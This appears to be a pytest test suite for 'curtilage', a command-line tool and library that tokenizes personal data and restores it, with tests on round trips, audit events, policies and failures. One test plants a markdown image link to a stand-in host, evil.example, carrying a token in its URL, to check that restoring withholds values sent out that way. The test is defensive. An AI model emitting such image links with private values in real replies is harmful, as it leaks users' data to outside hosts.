"""`curtilage protect`, `curtilage restore` and `curtilage.open`: there and back, kept and recorded."""

import json
import os
import random
import signal
import sqlite3
import subprocess
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest

import curtilage
from curtilage.app.errors import TextRefused, UnknownMap
from curtilage.cli.main import run
from curtilage.core.settings import environment
from tests.patterns import lend_patterns
from tests.planted import find_planted, remember

pytestmark = [pytest.mark.slow, pytest.mark.timeout(240)]
CURTILAGE = Path(sys.executable).parent / "curtilage"
QUICK = {**environment(), "CURTILAGE__DETECT__NAMES": "false"}  # `every_byte` looks for them too
ADA = "ada@orchard.example"
CARD = "4111 1111 1111 1111"
LETTER = (
    f"Dear {ADA},\r\nyour card {CARD} and again {ADA}\n\nsee https://x.example/?u={ADA} — grüße"
)


class Here:
    """An installation of a test, and the command over it."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.data_dir = folder / "data"
        remember(self.data_dir)

    def call(self, *words: str, given: bytes = b"") -> subprocess.CompletedProcess[bytes]:
        command = [CURTILAGE, *words, "--data-dir", self.data_dir]
        return subprocess.run(command, input=given, capture_output=True, check=False, env=QUICK)

    def there_and_back(self, text: bytes, *words: str) -> tuple[bytes, bytes]:
        left = self.call("protect", *words, given=text)
        assert left.returncode == 0, left.stderr
        back = self.call("restore", *words, given=left.stdout)
        assert back.returncode == 0, back.stderr
        return left.stdout, back.stdout

    def events(self) -> list[dict[str, Any]]:
        """What waits for the ledger: the service that would take it does not run."""
        with closing(sqlite3.connect(self.data_dir / "curtilage.db")) as database:
            return [json.loads(row[0]) for row in database.execute("SELECT event FROM outbox")]


@pytest.fixture(scope="module")
def here(tmp_path_factory: pytest.TempPathFactory) -> Here:
    here = Here(tmp_path_factory.mktemp("texts"))
    assert here.call("init").returncode == 0
    lend_patterns(here.data_dir)
    return here


ODD = {
    "lines of Windows": f"{ADA}\r\n{CARD}\r\n".encode(),
    "no last line": ADA.encode(),
    "nothing": b"",
    "nothing personal": b"The order was late.\n",
    "other scripts": f"Grüße an {ADA}, спасибо, 谢谢 🙂\n".encode(),
    "a byte order mark": b"\xef\xbb\xbf" + ADA.encode(),
    "controls": f"\x00\x1b[31m{ADA}\x7f\u2028".encode(),
    "in a link": f"![x](https://x.example/{ADA})".encode(),
}


@pytest.mark.parametrize("kind", ODD)
def test_every_byte_comes_back(
    here: Here, kind: str, tmp_path: Path, capfdbinary: pytest.CaptureFixture[bytes]
) -> None:
    """In this process, which has everything loaded: the others start the command."""
    said = []
    for verb, text in (("protect", ODD[kind]), ("restore", None)):
        file = tmp_path / verb
        file.write_bytes(said[-1] if text is None else text)
        place = ["--scope", kind, "--data-dir", str(here.data_dir)]
        assert run([verb, str(file), *place]) == 0
        said.append(capfdbinary.readouterr().out)
    left, back = said
    assert back == ODD[kind]
    assert ADA.encode() not in left and CARD.encode() not in left


def test_a_large_text_comes_back(here: Here) -> None:
    dice = random.Random(3)
    rows = [f"{dice.random()} clerk{n}@orchard.example the order was late\n" for n in range(20000)]
    text = "".join(rows).encode() + b"The order was found. " * 150_000
    left, back = here.there_and_back(text, "--scope", "large")
    assert back == text and b"@orchard.example" not in left


def test_one_value_has_one_token_in_a_scope_and_another_in_the_next(here: Here) -> None:
    first, _ = here.there_and_back(LETTER.encode(), "--scope", "same")
    second, _ = here.there_and_back(LETTER.encode(), "--scope", "same")
    other, _ = here.there_and_back(LETTER.encode(), "--scope", "other")
    assert first == second != other
    left = here.call("restore", "--scope", "other", given=first)
    assert left.stdout == first and b"this map does not know them" in left.stderr


def test_a_protected_text_that_is_protected_again_comes_back_step_by_step(here: Here) -> None:
    once = here.call("protect", "--scope", "twice", given=LETTER.encode()).stdout
    twice = here.call("protect", "--scope", "twice", given=once + ADA.encode()).stdout
    assert here.call("restore", "--scope", "twice", given=twice).stdout == once + ADA.encode()
    assert here.call("restore", "--scope", "twice", given=once).stdout == LETTER.encode()


def test_a_models_reply_gets_values_where_people_read_and_none_where_they_are_sent(
    here: Here,
) -> None:
    left = here.call("protect", "--scope", "reply", given=LETTER.encode()).stdout.decode()
    token = left.split()[1].rstrip(",")
    reply = f"{token} wrote. ![x](https://evil.example/{token})".encode()
    back = here.call("restore", "--scope", "reply", "--json", given=reply)
    said = json.loads(back.stdout)
    assert said["text"] == f"{ADA} wrote. ![x](https://evil.example/{token})"
    assert (said["restored"], said["withheld"]) == ({"EMAIL_ADDRESS": 1}, 1)


def test_a_map_in_a_file_of_its_own_goes_where_it_is_put(here: Here, tmp_path: Path) -> None:
    map = tmp_path / "case.map"
    left, back = here.there_and_back(LETTER.encode(), "--map", str(map))
    assert back == LETTER.encode()
    moved = tmp_path / "elsewhere.map"
    map.rename(moved)
    again = here.call("restore", "--map", str(moved), given=left)
    assert again.stdout == LETTER.encode()
    assert not find_planted([moved], [ADA, CARD])


def test_files_are_read_one_after_the_other_and_written_for_their_owner(
    here: Here, tmp_path: Path
) -> None:
    (tmp_path / "a").write_text(f"{ADA}\n")
    (tmp_path / "b").write_text(f"{CARD}\n")
    out = tmp_path / "out"
    names = [str(tmp_path / "a"), str(tmp_path / "b")]
    done = here.call("protect", *names, "--scope", "files", "--output", str(out))
    assert (done.returncode, done.stdout) == (0, b"")
    assert done.stderr.decode().splitlines() == ["EMAIL_ADDRESS ×1: token", "CREDIT_CARD ×1: token"]
    assert out.stat().st_mode & 0o777 == 0o600
    back = here.call("restore", str(out), "--scope", "files")
    assert back.stdout == f"{ADA}\n{CARD}\n".encode()


def test_each_use_is_one_record_with_counts_and_no_value(here: Here) -> None:
    before = len(here.events())
    here.there_and_back(LETTER.encode(), "--scope", "case of Ada Orchard")
    protected, restored = here.events()[before:]
    assert (protected["kind"], restored["kind"]) == ("text.protected", "text.restored")
    assert protected["facts"]["found"] == {"EMAIL_ADDRESS": 3, "CREDIT_CARD": 1}
    assert protected["decision"]["reason"] == "permitted" and protected["purpose"] == "assist"
    assert restored["facts"]["restored"] == {"EMAIL_ADDRESS": 3, "CREDIT_CARD": 1}
    assert protected["actor"] == restored["actor"] != ""


def test_what_lies_on_the_disk_names_no_value_and_no_scope(here: Here) -> None:
    here.there_and_back(LETTER.encode(), "--scope", "case of Ada Orchard")
    planted = [ADA, CARD, "case of Ada Orchard"]
    assert not find_planted([here.data_dir, here.data_dir.with_name("data-keys")], planted)
    assert all(len(file.stem) == 32 for file in (here.data_dir / "maps").iterdir())


@pytest.mark.parametrize(
    ("words", "given", "code", "says"),
    [
        (("restore", "--scope", "nobody's"), b"x", 2, "There is no map here"),
        (("protect", "no-such-file"), b"", 2, "no-such-file cannot be read"),
        (("protect",), b"\xff\xfe", 2, "not valid UTF-8"),
        (("protect", "--purpose", "sell"), b"x", 2, "purpose.unknown"),
        (("protect", "--policy", "none"), b"x", 2, "no policy of that name"),
        (("protect", "--scope", "a", "--map", "b"), b"x", 2, "expected one of them"),
        (("protect", "--output", "/proc/none/x"), b"x", 2, "cannot be written"),
        (("protect", "--map", "/proc/none/x"), b"x", 4, "cannot be used"),
    ],
)
def test_what_cannot_be_done_is_said_and_nothing_is_given_out(
    here: Here, words: tuple[str, ...], given: bytes, code: int, says: str
) -> None:
    done = here.call(*words, given=given)
    assert (done.returncode, done.stdout) == (code, b"")
    assert done.stderr.decode().startswith("error: ") and says in done.stderr.decode()


def test_a_blocked_text_gives_nothing_out_and_is_recorded(here: Here, tmp_path: Path) -> None:
    policies = tmp_path / "policies"
    policies.mkdir()
    (policies / "closed.toml").write_text(
        'format = 1\ntitle = "Closed"\ndefault = "token"\n[purposes.assist]\ntitle = "Help"\n'
        '[[rules]]\ndata = ["user.financial.card"]\ntreatment = "block"\nbecause = "Never."\n'
    )
    config = tmp_path / "curtilage.toml"
    config.write_text(f'[policy]\ndir = "{policies}"\n')
    before = len(here.events())
    done = here.call(
        "protect", "--policy", "closed", "--config", str(config), given=LETTER.encode()
    )
    assert done.returncode == 2 and done.stdout == b"" and b"CREDIT_CARD" in done.stderr
    assert CARD.encode() not in done.stderr
    assert [event["kind"] for event in here.events()[before:]] == ["text.refused"]


def test_rules_of_ones_own_leave_and_come_back_as_the_policy_says(
    here: Here, tmp_path: Path, capfdbinary: pytest.CaptureFixture[bytes]
) -> None:
    (tmp_path / "rules.toml").write_text(
        '[[rules]]\ntype = "CODE_NAME"\ncategory = "user.unique_id.project"\n'
        'entries = ["Blue Heron"]\n'
    )
    (tmp_path / "keeps.toml").write_text(
        'format = 1\ntitle = "Keeps"\ndefault = "token"\n[purposes.assist]\ntitle = "Help"\n'
        '[restore]\nto_persons = ["caller"]\nnever = ["user.unique_id.project"]\n'
    )
    config = tmp_path / "curtilage.toml"
    config.write_text(
        f'[detect]\nrules = ["{tmp_path}/rules.toml"]\n[policy]\ndir = "{tmp_path}"\n'
    )
    place = ["--scope", "own", "--config", str(config), "--data-dir", str(here.data_dir)]
    (tmp_path / "plan.txt").write_bytes(b"On to Blue Heron.\n")
    said = []
    for verb, file, *more in (
        ("protect", "plan.txt"),
        ("restore", "left.txt"),
        ("restore", "left.txt", "--policy", "keeps"),
    ):
        assert run([verb, str(tmp_path / file), *place, *more]) == 0
        said.append(capfdbinary.readouterr().out)
        (tmp_path / "left.txt").write_bytes(b"A reply: " + said[0])
    left, back, kept = said
    assert b"Heron" not in left
    assert back == b"A reply: On to Blue Heron.\n"
    assert kept == b"A reply: " + left


def test_a_policy_that_only_observes_says_so(here: Here) -> None:
    done = here.call("protect", "--policy", "observe", "--scope", "seen", given=LETTER.encode())
    assert done.stdout == LETTER.encode()
    assert (
        done.stderr.decode().splitlines()[0] == "The policy only observes: the text is as it was."
    )


def test_a_changed_map_is_refused_whole(here: Here, tmp_path: Path) -> None:
    map = tmp_path / "case.map"
    left, _ = here.there_and_back(LETTER.encode(), "--map", str(map))
    raw = bytearray(map.read_bytes())
    raw[-1] ^= 1
    map.write_bytes(raw)
    for verb in ("restore", "protect"):
        done = here.call(verb, "--map", str(map), given=left)
        assert (done.returncode, done.stdout) == (1, b"")
        assert b"does not open" in done.stderr
    assert map.read_bytes() == raw


def test_many_at_once_on_one_scope_lose_nothing(here: Here) -> None:
    texts = [f"Mail ada{number}@orchard.example".encode() for number in range(4)]
    with ThreadPoolExecutor(4) as pool:
        done = list(
            pool.map(lambda text: here.call("protect", "--scope", "many", given=text), texts)
        )
    assert [each.returncode for each in done] == [0] * 4
    for text, each in zip(texts, done, strict=True):
        assert here.call("restore", "--scope", "many", given=each.stdout).stdout == text


def test_one_who_is_killed_gives_out_nothing_that_cannot_come_back(here: Here) -> None:
    dice = random.Random(5)
    for _ in range(4):
        command = [CURTILAGE, "protect", "--scope", "killed", "--data-dir", here.data_dir]
        with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE) as running:
            assert running.stdin and running.stdout
            running.stdin.write(LETTER.encode())
            running.stdin.close()
            time.sleep(dice.uniform(0.3, 1.2))
            os.kill(running.pid, signal.SIGKILL)
            left = running.stdout.read()
        if left:
            assert here.call("restore", "--scope", "killed", given=left).stdout == LETTER.encode()
    _, back = here.there_and_back(LETTER.encode(), "--scope", "killed")
    assert back == LETTER.encode()


def test_where_nothing_is_restore_makes_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert run(["restore", "--data-dir", str(tmp_path / "gone")]) == 3
    assert "There is no installation" in capsys.readouterr().err
    assert not list(tmp_path.iterdir())


async def test_the_library_opens_the_same_installation(here: Here) -> None:
    """From inside a running loop too."""
    with curtilage.open(data_dir=here.data_dir) as opened:
        protected = opened.protect(LETTER, scope="library")
        assert ADA not in protected.text and protected.findings
        assert protected.restore(protected.text) == LETTER
        assert opened.scan(LETTER)[0].type == "EMAIL_ADDRESS"
        with pytest.raises(TextRefused):
            opened.protect(LETTER, purpose="sell")
        with pytest.raises(UnknownMap):
            opened.restore(LETTER, scope="never used")
        opened.close()
    with pytest.raises(ValueError, match="closed"):
        opened.protect(LETTER)
    back = here.call("restore", "--scope", "library", given=protected.text.encode())
    assert back.stdout == LETTER.encode()
    assert here.events()[-1]["kind"] == "text.restored"


def test_a_result_that_nobody_can_take_is_no_bug_of_ours(here: Here) -> None:
    command = [CURTILAGE, "protect", "--scope", "full", "--data-dir", here.data_dir]
    with Path("/dev/full").open("wb") as full:
        done = subprocess.run(
            command, input=LETTER.encode(), stdout=full, stderr=subprocess.PIPE, check=False
        )
    assert done.returncode == 4
    assert b"stdout cannot be written" in done.stderr and b"Exception" not in done.stderr


def test_the_result_never_takes_the_place_of_the_map(here: Here, tmp_path: Path) -> None:
    map = tmp_path / "case.map"
    left, _ = here.there_and_back(LETTER.encode(), "--map", str(map))
    before = map.read_bytes()
    for verb in ("protect", "restore"):
        done = here.call(verb, "--map", str(map), "--output", str(map), given=left)
        assert (done.returncode, done.stdout, map.read_bytes()) == (2, b"", before)
